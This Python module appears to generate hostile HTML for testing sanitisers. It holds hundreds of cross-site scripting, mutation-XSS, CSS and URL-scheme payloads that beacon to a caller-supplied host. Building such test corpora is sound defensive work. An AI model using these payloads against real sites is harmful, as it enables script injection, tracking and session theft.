"""Hostile HTML of every kind that the tests of sanitisers know, each kind in several spellings.

`{run}` in a form becomes code that calls home, `{url}` an address that must not be asked for.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from typing import Final

_RUN: Final = "new Image().src='{url}'"

_EVENTS: Final = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart"),
    *("onbegin", "ontoggle", "onpageshow", "oncontentvisibilityautostatechange", "onscrollend"),
)
_CARRIERS: Final = (
    "<img src=x {event}={run}>",
    "<svg {event}={run}><circle r=1 /></svg>",
    "<body {event}={run}>",
    "<details open {event}={run}><summary>a</summary></details>",
    "<video autoplay src=x {event}={run}></video>",
    "<input autofocus {event}={run}>",
    "<svg><animate attributeName=x dur=1s {event}={run} /></svg>",
    "<p style='animation:a 1s' {event}={run}>a</p>",
)
_SPELLINGS: Final = (
    "{name}",
    "/{name}",
    "\n{name}",
    "x='>' {name}",
)
_LOADERS: Final = (
    "<img src='{url}'>",
    "<img srcset='{url} 1x, {url} 2x'>",
    "<img src='//{host}/'>",
    "<img src=' \t\n{url}'>",
    "<img src='cid:../../{url}'>",
    (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
        '<image href="{url}"/></svg>\'>'
    ),
    "<img lowsrc='{url}' dynsrc='{url}'>",
    "<image src='{url}' href='{url}'>",
    "<input type=image src='{url}'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<video src='{url}' poster='{url}' autoplay></video>",
    "<audio src='{url}' autoplay></audio>",
    "<video><track default src='{url}'></video>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<frameset><frame src='{url}'></frameset>",
    "<object data='{url}'></object>",
    "<object classid='{url}' codebase='{url}'></object>",
    "<embed src='{url}'>",
    "<applet archive='{url}' code=a></applet>",
    "<portal src='{url}'></portal>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=dns-prefetch href='{url}'>",
    "<link rel=preconnect href='{url}'>",
    "<link rel=icon href='{url}'>",
    "<link rel=manifest href='{url}'>",
    "<script src='{url}'></script>",
    "<script type=module src='{url}'></script>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{url}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"a":"{url}"}}}}</script>',
    "<style>@import '{url}';</style>",
    "<style>@import url({url});p{{color:red}}</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:a;src:url({url})}}*{{font-family:a}}</style>",
    "<style>p::before{{content:url({url})}}</style>",
    "<p style='background:url({url})'>a</p>",
    "<p style='background-image:image-set(\"{url}\" 1x)'>a</p>",
    "<p style='list-style-image:url({url});display:list-item'>a</p>",
    "<p style='border-image-source:url({url})'>a</p>",
    "<p style='cursor:url({url}),auto'>a</p>",
    "<p style='content:url({url})'>a</p>",
    "<p style='mask-image:url({url})'>a</p>",
    "<p style='filter:url({url}#a)'>a</p>",
    "<p style='shape-outside:url({url})'>a</p>",
    "<p style='background:u\\72l({url})'>a</p>",
    "<p style='background:\\75\\72\\6c({url})'>a</p>",
    "<p style='color:red;/*;background:url({url});*/background:url({url})'>a</p>",
    "<p style='behavior:url({url});-moz-binding:url({url})'>a</p>",
    "<table background='{url}'><td background='{url}'>a</table>",
    "<body background='{url}'>a",
    "<base href='{url}'><img src=a.png>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;{url}'>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='{url}'>",
    "<meta http-equiv=Link content='<{url}>;rel=stylesheet'>",
    "<form id=f action='{url}'><input autofocus></form><button form=f>a</button>",
    "<a ping='{url}' href='#a'>a</a>",
    "<html manifest='{url}'>a",
    "<svg><image href='{url}'/></svg>",
    "<svg><image xlink:href='{url}'/></svg>",
    "<svg><use href='{url}#a'/></svg>",
    "<svg><feImage href='{url}'/></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<svg><foreignObject><img src='{url}'></foreignObject></svg>",
    "<svg><a href='{url}'><animate attributeName=href to='{url}'/></a></svg>",
    "<math><mglyph src='{url}'></math>",
    "<math href='{url}'>a</math>",
    "<xml id=a src='{url}'></xml>",
    "<bgsound src='{url}'>",
    "<isindex action='{url}'>",
    "<q cite='{url}'>a</q><blockquote cite='{url}'>a</blockquote>",
    "<template><img src='{url}'></template>",
    "<div><template shadowrootmode=open><img src='{url}'></template></div>",
)
_RUNNERS: Final = (
    "<script>{run}</script>",
    "<SCRIPT\n>{run}</SCRIPT\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<script>{run}",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'/></svg>",
    "<svg><script>{encoded}</script></svg>",
    "<math><script>{run}</script></math>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="data:text/html,<script>{run}</script>"></object>',
    '<embed src="data:text/html,<script>{run}</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<svg><set attributeName=onload to="{run}"/></svg>',
    '<svg><animate attributeName=href values="javascript:{run}"/></svg>',
    '<img src="javascript:{run}">',
    '<p style="width:expression({run})">a</p>',
    '<isindex action="javascript:{run}">',
    '<xss id=a tabindex=1 onfocus="{run}"></xss>',
    '<marquee onstart="{run}">a</marquee>',
    "<img src=x onerror=&#x6e;{run_tail}>",
    '<img src=\'x\' " onerror="{run}" ">',
    '<img alt="`><img src=x onerror={run}>`">',
    "<img title='\"><script>{run}</script>'>",
)
_WRAPPINGS: Final = (
    '<svg></p><style><a id="</style>{form}">',
    "<math><mtext><table><mglyph><style><!--</style>{form}-->",
    "<form><math><mtext></form><form><mglyph><style></math>{form}",
    '<noscript><p title="</noscript>{form}"></noscript>',
    '<textarea><p title="</textarea>{form}">',
    '<title><p title="</title>{form}">',
    '<xmp><p title="</xmp>{form}">',
    '<noembed><p title="</noembed>{form}">',
    '<noframes><p title="</noframes>{form}">',
    "<plaintext>{form}",
    "<select><template>{form}</template></select>",
    "<select><option>{form}</select>",
    "<table><caption><svg><title>{form}</title></svg></table>",
    "<svg><desc>{form}</desc></svg>",
    "<svg><![CDATA[><{form}]]></svg>",
    "<math><annotation-xml encoding='text/html'>{form}</annotation-xml></math>",
    "<!--[if gte IE 4]>{form}<![endif]-->",
    "<!--><img>{form}-->",
    "<!-- --!>{form}-->",
    "<?xml version='1.0'?>{form}",
    "<!DOCTYPE a [<!ENTITY b '{form}'>]>&b;",
    "</br>{form}</p>",
    "<p><a><p><a>{form}",
    "\0{form}\0",
)
_WRAPPED: Final = (
    "<img src=x onerror={run}>",
    "<script>{run}</script>",
    "<img src='{url}'>",
    "<style>*{{background:url({url})}}</style>",
    "<iframe src='{url}'></iframe>",
)
_SCHEMES: Final = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:"),
    *(
        "&#106;avascript:",
        "javascript&colon;",
        "\x01javascript:",
        "vbscript:",
        "blocked:javascript:",
    ),
    *("data:text/html,<script>", "data:text/html;base64,", "blob:", "filesystem:", "view-source:"),
)


def hostile_html(host: str) -> Iterator[str]:
    """Return the mails, each different; `host` is one that must not be asked.

    Mail number N asks for `/N` there.
    """
    for number, form in enumerate(dict.fromkeys(_forms())):
        url = f"https://{host}/{number}"
        run = _RUN.format(url=url)
        yield form.format(
            url=url,
            host=f"{host}/{number}",
            run=run,
            run_tail=run[1:],
            encoded=escape(run).replace("n", "&#110;"),
        )


def _forms() -> Iterator[str]:
    yield from _LOADERS
    yield from _RUNNERS
    for carrier, event in product(_CARRIERS, _EVENTS):
        yield carrier.replace("{event}", event).replace("{run}", '"{run}"')
    for spelling, event in product(_SPELLINGS[1:], _EVENTS[:3]):
        yield f'<img src=x {spelling.format(name=event)}="{{run}}">'
    for wrapping, form in product(_WRAPPINGS, _WRAPPED):
        yield wrapping.replace("{form}", form)
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}{{run}}">a</a>'
        yield f'<img src="{scheme}{{run}}">'
